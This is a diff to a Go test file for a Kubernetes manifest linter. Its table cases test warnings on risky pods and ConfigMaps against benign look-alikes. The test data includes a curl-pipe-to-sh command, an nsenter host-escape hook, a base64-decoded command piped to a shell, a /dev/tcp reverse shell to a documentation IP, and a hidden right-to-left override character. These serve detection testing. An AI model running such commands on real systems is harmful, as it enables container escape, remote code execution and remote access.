@@ -178,7 +178,12 @@ var objectCases = []struct {
 	{"pod-secret-env", preview.Warning, pod("", "env: [{name: DB_PASSWORD, value: hunter2}]"), []string{pod("", "env: [{name: DB_PASSWORD, valueFrom: {secretKeyRef: {name: s}}}, {name: TOKEN_FILE, value: /x}, {name: WATCH_SECRETS, value: 'true'}]")}},
 	{"pod-control-plane", preview.Warning, pod("tolerations: [{operator: Exists}], ", "x: y"), []string{pod("tolerations: [{key: node-role.kubernetes.io/control-plane, operator: Exists}], ", "x: y")}},
 	{"pod-preempts", preview.Warning, pod("priorityClassName: system-cluster-critical, ", "x: y"), []string{pod("priorityClassName: mine, ", "x: y")}},
-	{"pod-remote-code", preview.Warning, pod("", "command: [sh, -c, 'curl https://x | sh']"), []string{pod("", "command: [/bin/curly]")}},
+	{"pod-remote-code", preview.Warning, pod("", "command: [sh, -c, 'curl https://x | sh']"), []string{pod("", "command: [/bin/curly]"), pod("", "livenessProbe: {exec: {command: [curl, 'http://localhost:80/']}}")}},
+	{"pod-hostile-code", preview.Warning, pod("", "lifecycle: {postStart: {exec: {command: [sh, -c, 'nsenter -t 1 -m sh']}}}"), []string{pod("", "command: [/bin/nsenterprise]")}},
+	{"pod-hidden-code", preview.Warning, pod("", "args: ['echo aWQ= | base64 -d | sh']"), []string{pod("", "args: ['base64 -d /a > /b']")}},
+	{"script-remote-code", preview.Warning, scriptsOf("run.sh: 'curl -s https://x.example.com/a | sh'"), []string{scriptsOf("readme: 'fetch it with curl -O https://example.com/x'"), scriptsOf("run.sh: 'curl -f http://localhost:80'")}},
+	{"script-hostile-code", preview.Warning, scriptsOf("a: 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'"), []string{scriptsOf("no_proxy: 'NO_PROXY=169.254.169.254,localhost'")}},
+	{"script-hidden-code", preview.Warning, scriptsOf("a: \"id \\u202e #x\""), []string{scriptsOf("banner: \"\\e[1mok ✔️ žluťoučký\"")}},
 	{"pod-no-limits", preview.Info, pod("", "x: y"), []string{pod("", "resources: {requests: {cpu: 1m}}, livenessProbe: {}")}},
 	{"image-by-tag", preview.Warning, pod("", "image: 'a.b:5000/c:v1'"), []string{pod("", "image: 'a.b:5000/c:v1@sha256:00'")}},
 	{"image-pull-always", preview.Info, pod("", "image: 'c:v1', imagePullPolicy: Always"), []string{pod("", "image: 'c@sha256:00', imagePullPolicy: Always")}},
@@ -343,6 +348,10 @@ var objectCases = []struct {
 		"hostile-text", preview.Warning, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c, namespace: app, annotations: {a: \"x\\u202ey\"}}\n",
 		[]string{"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c, namespace: app, annotations: {a: \"x\\ty\"}}\ndata: {a: \"\\e[1m\"}\n"},
 	},
+}
+
+func scriptsOf(data string) string {
+	return "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c, namespace: app}\ndata: {" + data + "}\n"
 }
 
 func apiServiceOf(spec string) string {
